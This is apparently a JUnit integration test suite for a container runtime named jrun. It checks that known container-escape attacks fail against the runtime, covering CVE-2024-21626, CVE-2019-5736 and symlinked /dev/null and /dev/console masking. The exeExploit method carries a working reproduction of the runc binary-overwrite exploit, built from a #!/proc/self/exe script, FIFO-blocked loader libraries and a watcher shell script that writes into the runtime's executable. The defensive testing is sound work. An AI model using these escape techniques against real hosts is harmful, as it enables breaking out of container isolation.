package io.jrun.it;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.ThreadLocalRandom;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * Attacks on the host from inside a container, and what a runtime killed half-way leaves. Each
 * test puts a marker file on the host and looks for it from inside through every candidate
 * path (a directory of the host reached from inside leads, through "..", to the host's "/"
 * and so to the marker), and tries to open candidate files for writing without writing
 * anything; what was reached or opened is asserted from the host. Where runc 1.1.5 (Debian's,
 * with the fix for CVE-2024-21626) defends too, the same test runs against it
 * ({@code -Djrun.it.runtime=runc}), which shows that the test catches the attack.
 */
class SecurityIT {
    @RegisterExtension
    final Containers containers = new Containers();

    /** A file on the host that no container may see: /var/tmp/MARKER, looked for relative to a reached "/". */
    private Path marker;

    @BeforeEach
    void putAMarkerOnTheHost() throws IOException {
        String name = "jrun-it-marker-" + HexFormat.of().toHexDigits(ThreadLocalRandom.current().nextInt());
        marker = Files.writeString(Path.of("/var/tmp", name), "host marker\n");
    }

    @AfterEach
    void removeTheMarker() throws IOException {
        String content = Files.readString(marker);
        Files.delete(marker);
        assertEquals("host marker\n", content, "the host's marker file was written to");
    }

    /**
     * A shell function, reach DIR: from DIR, up to what ".." leads to, is the marker there?
     * Prints "REACHED DIR" if so: DIR was a host directory.
     */
    private String reach() {
        String up = "../".repeat(24);
        return "reach() { ( cd -P \"$1\" 2>/dev/null && cd -P " + up + " && test -e var/tmp/" + marker.getFileName()
                + " && echo \"REACHED $1\" ); }; ";
    }

    /** A shell function, writable FILE: opens FILE for appending, writing nothing; prints "WRITABLE FILE" if it could. */
    private static final String WRITABLE = "writable() { ( : >> \"$1\" ) 2>/dev/null && echo \"WRITABLE $1 -> $(readlink \"$1\")\"; }; ";

    private static void assertNothingReached(String what, String output) {
        assertFalse(output.contains("REACHED") || output.contains("WRITABLE"), what + ":\n" + output);
    }

    // ---- 1. host fds and the working directory (CVE-2024-21626) ----------------------------

    /** Runs {@code task} for fd numbers 3 to 64, four at a time (each is a runtime command). */
    private static List<Result> forEachFd(java.util.function.IntFunction<Result> task) throws Exception {
        ExecutorService pool = Executors.newFixedThreadPool(4);
        try {
            List<Future<Result>> futures = new ArrayList<>();
            for (int fd = 3; fd <= 64; fd++) {
                int n = fd;
                futures.add(pool.submit(() -> task.apply(n)));
            }
            List<Result> results = new ArrayList<>();
            for (Future<Result> f : futures) {
                results.add(f.get());
            }
            return results;
        } finally {
            pool.shutdownNow();
        }
    }

    @Test
    void aCwdInProcSelfFdDoesNotReachTheHostOnRun() throws Exception {
        List<Result> results = forEachFd(fd -> {
            Bundle bundle = containers.bundle().sh(reach() + "reach .; pwd");
            bundle.process().put("cwd", "/proc/self/fd/" + fd);
            return containers.run(bundle);
        });
        for (Result r : results) {
            assertNothingReached("run with cwd " + r.command(), r.stdout());
        }
    }

    @Test
    void aCwdInProcSelfFdDoesNotReachTheHostOnExec() throws Exception {
        String id = containers.newId();
        containers.run(id, containers.bundle().args("sleep", "300"), "--detach").ok();
        List<Result> results = forEachFd(fd -> containers.exec("exec", "--cwd", "/proc/self/fd/" + fd, id, "sh", "-c",
                reach() + "reach .; pwd"));
        for (Result r : results) {
            assertNothingReached("exec with cwd " + r.command(), r.stdout());
        }
    }

    @Test
    void aCreatedContainersInitHoldsNothingOfTheHost() {
        // The init of a created container is the runtime's own process until `start`: seen
        // from an exec with CAP_SYS_PTRACE, its fds, cwd, root and exe.
        String id = containers.newId();
        containers.create(id, containers.bundle().args("true")).ok();
        String probe = reach() + WRITABLE
                + "for f in /proc/1/fd/*; do n=${f##*/}; [ \"$n\" -gt 2 ] || continue; echo \"fd $n -> $(readlink $f)\"; "
                + "if [ -d \"$f\" ]; then echo \"DIR $f\"; reach \"$f\"; elif [ -p \"$f\" ] || [ -S \"$f\" ]; then :; "
                + "else writable \"$f\"; fi; done; "
                + "reach /proc/1/cwd; reach /proc/1/root; "
                + "echo \"exe -> $(readlink /proc/1/exe)\"; if printf x >> /proc/1/exe; then echo \"WRITABLE exe\"; fi; echo probed";
        Result r = containers.exec("exec", "--cap", "CAP_SYS_PTRACE", id, "sh", "-c", probe).ok();
        assertTrue(r.stdout().contains("probed"), r.toString());
        assertNothingReached("the created init, seen from inside", r.stdout());
        assertFalse(r.stdout().contains("DIR "), "a directory fd in the created init: " + r.stdout());
    }

    // ---- 2. the runtime's own executable (CVE-2019-5736) ------------------------------------

    /**
     * A JDK for the runtime under test whose bin/java is a copy (the rest links to the real
     * one): if the attack worked it would write the copy, never the JDK of this machine.
     */
    private Path jdkCopy() throws IOException {
        Path real = Path.of(System.getProperty("java.home"));
        Path copy = containers.scratch("jdk").resolve("jdk");
        Files.createDirectories(copy.resolve("bin"));
        try (Stream<Path> entries = Files.list(real)) {
            for (Path e : entries.toList()) {
                if (!e.getFileName().toString().equals("bin")) {
                    Files.createSymbolicLink(copy.resolve(e.getFileName()), e);
                }
            }
        }
        Files.copy(real.resolve("bin/java"), copy.resolve("bin/java"));
        return copy;
    }

    /**
     * The classic exploit: the container's /evil is a script whose interpreter is
     * /proc/self/exe, so the kernel runs the executable of the process that execs it (the
     * runtime's, for `exec`) inside the container. The container's init, a watcher, opens
     * /proc/PID/exe of that process as soon as it can, lets it go (its loader waits on a FIFO
     * in place of its first library), and once it is gone tries to write to what it holds.
     */
    private void exeExploit(boolean ptrace) throws IOException {
        Bundle bundle = containers.bundle();
        Path rootfs = bundle.rootfs();
        Files.createDirectories(rootfs.resolve("lib64"));
        Files.copy(Path.of("/lib64/ld-linux-x86-64.so.2"), rootfs.resolve("lib64/ld-linux-x86-64.so.2"));
        Files.createDirectories(rootfs.resolve("fifo-lib"));
        for (String lib : List.of("libjli.so", "libc.so.6", "libseccomp.so.2", "libz.so.1", "libpthread.so.0", "libdl.so.2")) {
            containers.host("mkfifo", rootfs.resolve("fifo-lib").resolve(lib).toString()).ok();
        }
        Path evil = Files.writeString(rootfs.resolve("evil"), "#!/proc/self/exe\n");
        Files.setPosixFilePermissions(evil, PosixFilePermissions.fromString("rwxr-xr-x"));
        String watcher = """
                deadline=$(( $(date +%s) + 90 * SLOWDOWN ))
                attack() {
                  {
                    echo "got $1 -> $(readlink /proc/self/fd/3)" > /tmp/watch.log
                    for f in /fifo-lib/*; do (echo x > "$f") & done
                    while [ $(date +%s) -lt $deadline ]; do
                      if err=$( { printf PWNED >> /proc/self/fd/3; } 2>&1 ); then echo WROTE >> /tmp/watch.log; break; fi
                      echo "denied: $err" > /tmp/denied.log
                      case "$err" in *busy*) sleep 0.2;; *) break;; esac
                    done
                  } 3< "$1"
                }
                echo watching > /tmp/watch.log
                while [ $(date +%s) -lt $deadline ]; do
                  for p in /proc/[0-9]*; do
                    [ "${p#/proc/}" = "$$" ] && continue
                    t=$(readlink "$p/exe" 2>/dev/null) || continue
                    case "$t" in ""|/bin/busybox) continue;; esac
                    attack "$p/exe" 2>/dev/null && break 2
                  done
                done
                cat /tmp/denied.log >> /tmp/watch.log 2>/dev/null
                echo done >> /tmp/watch.log
                exec sleep 300
                """.replace("SLOWDOWN", Integer.toString(Exec.SLOWDOWN));
        bundle.sh(watcher);
        if (ptrace) {
            ObjectNode caps = bundle.process().withObject("/capabilities");
            for (String set : List.of("bounding", "effective", "permitted")) {
                ((ArrayNode) caps.withArray("/" + set)).add("CAP_SYS_PTRACE");
            }
        }
        Path jdk = jdkCopy();
        byte[] javaBefore = Files.readAllBytes(jdk.resolve("bin/java"));
        Path runtimeBinary = containers.runtime().binary().toRealPath();
        byte[] runtimeBefore = Files.readAllBytes(runtimeBinary);
        List<String> env = List.of("env", "JAVA_HOME=" + jdk);

        String id = containers.newId();
        bundle.save();
        Result run = Exec.run(containers.scratch("out"), withPrefix(env, containers.runtime().command(
                "run", "--detach", "--bundle", bundle.dir().toString(), id)));
        run.ok();
        Poll.until("the watcher to start", () -> read(bundle.file("/tmp/watch.log")).contains("watching"));
        // the victim: an exec of /evil, whose loader blocks until the watcher has its exe
        Exec.run(containers.scratch("out"), withPrefix(env, containers.runtime().command(
                "exec", "--env", "LD_LIBRARY_PATH=/fifo-lib", id, "/evil")));
        String log = Poll.settle(() -> read(bundle.file("/tmp/watch.log")), s -> s.contains("done"), Duration.ofSeconds(120L * Exec.SLOWDOWN));
        assertTrue(log.contains("got "), "the watcher never got hold of the runtime's executable: " + log);
        assertFalse(log.contains("WROTE"), "the runtime's executable was writable from the container: " + log);
        assertTrue(log.contains("denied"), log);
        assertArrayEquals(javaBefore, Files.readAllBytes(jdk.resolve("bin/java")), "the JDK's java was written");
        assertArrayEquals(runtimeBefore, Files.readAllBytes(runtimeBinary), "the runtime's binary was written");
    }

    private static List<String> withPrefix(List<String> prefix, List<String> command) {
        List<String> all = new ArrayList<>(prefix);
        all.addAll(command);
        return all;
    }

    private static String read(Path file) {
        try {
            return Files.exists(file) ? Files.readString(file) : "";
        } catch (IOException e) {
            return "";
        }
    }

    @Test
    void procSelfExeAsInterpreterCannotWriteTheRuntime() throws IOException {
        exeExploit(false);
    }

    @Test
    void procSelfExeAsInterpreterCannotWriteTheRuntimeWithPtrace() throws IOException {
        exeExploit(true);
    }

    // ---- 3. masked paths and the console (CVE-2025-31133, CVE-2025-52565) -------------------

    /** A bundle whose /dev is the rootfs's own directory (no tmpfs over it): the image decides what is in it. */
    private Bundle bundleWithTheImagesDev() {
        Bundle bundle = containers.bundle();
        ((ArrayNode) bundle.config().withArray("/mounts")).removeIf(m -> m.path("destination").asText().equals("/dev"));
        return bundle;
    }

    @Test
    void maskedPathsAreMaskedWithTheNullDeviceEvenIfDevNullIsASymlink() throws IOException {
        containers.assumeNotRunc("runc 1.1.5 follows a /dev/null symlink when it masks paths (CVE-2025-31133)");
        Bundle bundle = bundleWithTheImagesDev();
        bundle.config().put("hostname", "canary-hostname");
        Files.createDirectories(bundle.file("/dev"));
        Files.createSymbolicLink(bundle.file("/dev/null"), Path.of("/proc/sys/kernel/hostname"));
        bundle.sh("for p in /proc/keys /proc/timer_list; do [ -e $p ] || continue; "
                + "echo \"$p $(stat -c %F:%t:%T $p) [$(head -c 64 $p)]\"; done");
        Result r = containers.run(bundle).ok();
        assertFalse(r.stdout().contains("canary-hostname"), "a masked path shows the symlink's target: " + r.stdout());
        assertTrue(r.stdout().contains("/proc/keys character special file:1:3 []"), r.stdout());
    }

    @Test
    void theConsoleIsNotBoundThroughASymlink() throws IOException {
        containers.assumeNotRunc("runc 1.1.5 creates and binds /dev/console through a symlink (CVE-2025-52565)");
        Bundle bundle = bundleWithTheImagesDev().args("sh");
        bundle.process().put("terminal", true);
        Files.createDirectories(bundle.file("/dev"));
        Files.writeString(bundle.file("/tmp/target"), "not a console\n");
        Files.createSymbolicLink(bundle.file("/dev/console"), Path.of("/tmp/target"));
        ConsoleReceiver console = ConsoleReceiver.listen(containers.scratch("console").resolve("console.sock"));
        containers.afterTest(console::close);

        Result r = containers.create(containers.newId(), bundle, "--console-socket", console.path().toString());
        assertNotEquals(0, r.exit(), r.toString());
        assertTrue(r.stderr().contains("/dev/console"), r.stderr());
        assertEquals("not a console\n", Files.readString(bundle.file("/tmp/target")));
    }

    // ---- 4. seccomp comes last ------------------------------------------------------------

    /**
     * An allow-list profile of an older engine: everything a busybox shell and a runtime's
     * init need, but not close_range(2) and faccessat2(2), which came later.
     */
    private static ObjectNode allowListWithoutNewSyscalls(Bundle bundle) {
        ObjectNode seccomp = bundle.linux().putObject("seccomp");
        seccomp.put("defaultAction", "SCMP_ACT_ERRNO");
        seccomp.putArray("architectures").add("SCMP_ARCH_X86_64");
        ArrayNode names = seccomp.putArray("syscalls").addObject().put("action", "SCMP_ACT_ALLOW").putArray("names");
        for (String name : List.of("execve", "brk", "arch_prctl", "mmap", "munmap", "mprotect", "read", "write", "openat",
                "open", "close", "exit_group", "exit", "fstat", "newfstatat", "stat", "lstat", "getdents64", "getpid",
                "gettid", "tgkill", "rt_sigaction", "rt_sigprocmask", "rt_sigreturn", "ioctl", "getuid", "geteuid", "getgid",
                "getegid", "set_tid_address", "set_robust_list", "rseq", "prlimit64", "getrandom", "uname", "wait4",
                "getppid", "getcwd", "dup2", "dup3", "fcntl", "lseek", "capget", "capset", "prctl", "setgroups",
                "setresuid", "setresgid", "setuid", "setgid", "chdir", "fchdir", "futex", "sched_yield", "sched_getaffinity",
                "clone", "sigaltstack", "nanosleep", "clock_gettime", "epoll_create1", "epoll_ctl", "epoll_pwait",
                "pipe2", "readlinkat", "faccessat", "access", "madvise", "mlock", "umask", "kill", "fstatfs", "statfs")) {
            names.add(name);
        }
        return seccomp;
    }

    @Test
    void aProfileWithoutCloseRangeOrFaccessat2Works() {
        for (boolean nnp : List.of(false, true)) {
            Bundle bundle = containers.bundle().sh("echo seccomp:ok");
            bundle.process().put("noNewPrivileges", nnp);
            allowListWithoutNewSyscalls(bundle);
            Result r = containers.run(bundle);
            assertEquals(0, r.exit(), "noNewPrivileges " + nnp + ": " + r);
            assertEquals("seccomp:ok", r.out(), "noNewPrivileges " + nnp);
        }
    }

    @Test
    void theFilterIsInForTheProcessEvenWithoutNoNewPrivileges() {
        // CAP_SYS_ADMIN is held for loading the filter only: the process does not keep it
        Bundle bundle = containers.bundle().sh("grep Cap /proc/self/status; grep Seccomp: /proc/self/status");
        bundle.process().put("noNewPrivileges", false);
        allowListWithoutNewSyscalls(bundle);
        Result r = containers.run(bundle).ok();
        assertTrue(r.stdout().contains("Seccomp:\t2"), r.stdout());
        long effective = Long.parseLong(r.lines().stream().filter(l -> l.startsWith("CapEff:")).findFirst().orElseThrow()
                .substring(7).trim(), 16);
        assertEquals(0, effective & (1L << 21), "CAP_SYS_ADMIN is effective in the container: " + r.stdout());
    }

    // ---- 5. what a killed or crowded runtime leaves ---------------------------------------

    @Test
    void createKilledAtTenPointsLeavesNothingAfterDeleteForce() {
        containers.assumeNotRunc("runc 1.1.5 leaves the cgroups of a create killed half-way: delete --force finds no state");
        // how long a whole create takes here, to spread the kills over it
        Bundle timing = containers.bundle().args("true");
        String timed = containers.newId();
        long t0 = System.nanoTime();
        containers.create(timed, timing).ok();
        long createNanos = System.nanoTime() - t0;
        containers.delete(timed, "--force").ok();
        containers.assertNothingLeftBehind(timed, timing);

        for (int i = 0; i < 10; i++) {
            Bundle bundle = containers.bundle().args("true");
            String id = containers.newId();
            bundle.save();
            Exec.Started create = Exec.start(containers.scratch("out"),
                    containers.runtime().command("create", "--bundle", bundle.dir().toString(), id));
            sleepNanos(createNanos * i / 10);
            create.process().destroyForcibly(); // SIGKILL
            create.await(Exec.TIMEOUT);
            containers.delete(id, "--force").ok();
            containers.assertNothingLeftBehind(id, bundle);
        }
    }

    /** Whether /proc/PID/stat says a zombie (the state letter follows the command name's ")"). */
    private static boolean isZombie(String stat) {
        int close = stat.lastIndexOf(')');
        return close > 0 && close + 2 < stat.length() && "ZX".indexOf(stat.charAt(close + 2)) >= 0;
    }

    private static void sleepNanos(long nanos) {
        try {
            Thread.sleep(Duration.ofNanos(nanos));
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new AssertionError(e);
        }
    }

    @Test
    void fortyParallelLifecyclesLeaveNothing() throws Exception {
        ExecutorService pool = Executors.newFixedThreadPool(8);
        List<Bundle> bundles = new ArrayList<>();
        List<String> ids = new ArrayList<>();
        try {
            List<Future<String>> done = new ArrayList<>();
            for (int i = 0; i < 40; i++) {
                Bundle bundle = containers.bundle().args("true");
                String id = containers.newId();
                bundles.add(bundle);
                ids.add(id);
                Path pidFile = bundle.dir().resolve("pid");
                done.add(pool.submit(() -> {
                    Result c = containers.create(id, bundle, "--pid-file", pidFile.toString());
                    Result s = containers.start(id);
                    if (c.exit() == 0 && s.exit() == 0) {
                        // `true` ends at once: wait for it on the host, not with a runtime command per look
                        Path stat = Path.of("/proc", Files.readString(pidFile).strip(), "stat");
                        Poll.until(id + "'s process to end", () -> !Files.exists(stat) || isZombie(read(stat)));
                    }
                    Result d = containers.delete(id);
                    return c.exit() + "/" + s.exit() + "/" + d.exit() + " " + c.stderr() + s.stderr() + d.stderr();
                }));
            }
            for (Future<String> f : done) {
                assertEquals("0/0/0 ", f.get(), "create/start/delete exit statuses and errors");
            }
        } finally {
            pool.shutdownNow();
        }
        for (int i = 0; i < ids.size(); i++) {
            containers.assertNothingLeftBehind(ids.get(i), bundles.get(i));
        }
    }

    // ---- 6. the state directory ----------------------------------------------------------

    @Test
    void stateIsForRootOnly() throws IOException {
        String id = containers.newId();
        Bundle bundle = containers.bundle().args("true");
        bundle.process().putArray("env").add("PATH=/bin").add("SECRET=hunter2");
        containers.create(id, bundle).ok();
        Path dir = containers.runtime().root().resolve(id);
        // jrun's is 0700; runc's 0711 (its root is 0700) lists nothing to others either
        String dirMode = PosixFilePermissions.toString(Files.getPosixFilePermissions(dir));
        assertTrue(dirMode.matches("rwx-..-.."), dir + " is " + dirMode);
        try (Stream<Path> files = Files.list(dir)) {
            for (Path f : files.toList()) {
                if (Files.isRegularFile(f)) {
                    assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(f)), f.toString());
                }
            }
        }
        List<String> asNobody = List.of("setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups", "--");
        for (String name : List.of("config.json", "state.json")) {
            Result cat = containers.host(withPrefix(asNobody, List.of("cat", dir.resolve(name).toString())).toArray(String[]::new));
            assertNotEquals(0, cat.exit(), "user nobody read " + name + ": " + cat.stdout());
        }
        Result state = containers.host(withPrefix(asNobody, containers.runtime().command("state", id)).toArray(String[]::new));
        assertNotEquals(0, state.exit(), "user nobody ran `state`: " + state.stdout());
        assertFalse(state.stdout().contains(id) || state.stdout().contains("hunter2"), state.stdout());
    }
}
